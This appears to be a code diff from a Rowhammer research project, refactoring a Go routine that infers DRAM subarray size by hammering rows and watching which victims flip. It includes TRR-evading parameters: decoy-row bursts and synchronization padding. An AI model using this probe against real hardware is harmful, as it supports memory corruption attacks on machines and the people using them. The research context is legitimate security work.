@@ -1,8 +1,6 @@
 package attack
 
-import (
-	"fmt"
-)
+import "fmt"
 
 // This file implements the mFIT-style subarray size inference of §4.1: even
 // without vendor cooperation, software can determine subarray boundaries by
@@ -11,12 +9,24 @@ import (
 // boundary never flips while a control victim on the near side does.
 // Consistent failures at every multiple of n rows reveal an n-row subarray.
 
+// Probe constants. Candidate subarray sizes are the powers of two from
+// minCandidateRows to maxCandidateRows, the commodity range [155], tested
+// ascending; the smallest size whose multiples all behave as boundaries is
+// reported. With decoys, every round bursts decoyAmp activations on each
+// decoy and aggAmp on the aggressor, then pads the first decoy to syncActs
+// activations, phase-locking probes to a periodic TRR mechanism. Victims
+// hold fillPattern and then its complement.
+const (
+	minCandidateRows      = 256
+	maxCandidateRows      = 2048
+	decoyAmp              = 400
+	aggAmp                = 100
+	syncActs              = 5_000
+	fillPattern      byte = 0xAA
+)
+
 // InferenceConfig parameterizes the probe.
 type InferenceConfig struct {
-	// Candidates are the subarray sizes to test, ascending (the
-	// commodity range); the smallest size whose multiples all behave as
-	// boundaries is reported.
-	Candidates []int
 	// ActsPerAggressor is the hammer intensity per probe; it must exceed
 	// the DIMM's threshold comfortably.
 	ActsPerAggressor int
@@ -25,28 +35,14 @@ type InferenceConfig struct {
 	// Decoys is the number of high-amplitude decoy rows used to pin a
 	// TRR sampler during probing (0 for DIMMs without TRR).
 	Decoys int
-	// DecoyAmp and AggAmp are per-round burst sizes when decoys are used.
-	DecoyAmp, AggAmp int
-	// SyncActs pads each decoy round to a fixed activation count,
-	// phase-locking probes to a periodic TRR mechanism (0 disables).
-	SyncActs int
-	// FillPattern is the victim data pattern (its complement is also
-	// swept).
-	FillPattern byte
 }
 
-// DefaultInferenceConfig covers the modern subarray size range [155] with
-// TRR-evading probe parameters.
+// DefaultInferenceConfig sets TRR-evading probe parameters.
 func DefaultInferenceConfig() InferenceConfig {
 	return InferenceConfig{
-		Candidates:         []int{256, 512, 1024, 2048},
 		ActsPerAggressor:   20_000,
 		ProbesPerCandidate: 3,
 		Decoys:             8,
-		DecoyAmp:           400,
-		AggAmp:             100,
-		SyncActs:           5_000,
-		FillPattern:        0xAA,
 	}
 }
 
@@ -64,7 +60,7 @@ func InferSubarraySize(t Target, cfg InferenceConfig) (int, error) {
 			best = r
 		}
 	}
-	for _, candidate := range cfg.Candidates {
+	for candidate := minCandidateRows; candidate <= maxCandidateRows; candidate *= 2 {
 		matched, conclusive := 0, 0
 		for probe := 1; probe <= cfg.ProbesPerCandidate; probe++ {
 			boundary := probe * candidate
@@ -108,7 +104,7 @@ const blockRows = 8
 func probeBoundary(t Target, run []RowRef, idx int, cfg InferenceConfig) (cross, control bool, err error) {
 	low := run[idx-blockRows : idx]
 	high := run[idx : idx+blockRows]
-	for _, pat := range []byte{cfg.FillPattern, ^cfg.FillPattern} {
+	for _, pat := range []byte{fillPattern, ^fillPattern} {
 		for _, r := range low {
 			if err := t.FillRow(r, pat); err != nil {
 				return false, false, err
@@ -158,12 +154,12 @@ func hammerCovered(t Target, run []RowRef, agg RowRef, cfg InferenceConfig) erro
 	for remaining > 0 {
 		spent := 0
 		for _, d := range decoys {
-			if err := t.Hammer(d, cfg.DecoyAmp, 0); err != nil {
+			if err := t.Hammer(d, decoyAmp, 0); err != nil {
 				return err
 			}
-			spent += cfg.DecoyAmp
+			spent += decoyAmp
 		}
-		burst := cfg.AggAmp
+		burst := aggAmp
 		if burst > remaining {
 			burst = remaining
 		}
@@ -173,8 +169,8 @@ func hammerCovered(t Target, run []RowRef, agg RowRef, cfg InferenceConfig) erro
 		spent += burst
 		remaining -= burst
 		// Synchronization padding on the first decoy.
-		if cfg.SyncActs > spent {
-			if err := t.Hammer(decoys[0], cfg.SyncActs-spent, 0); err != nil {
+		if syncActs > spent {
+			if err := t.Hammer(decoys[0], syncActs-spent, 0); err != nil {
 				return err
 			}
 		}
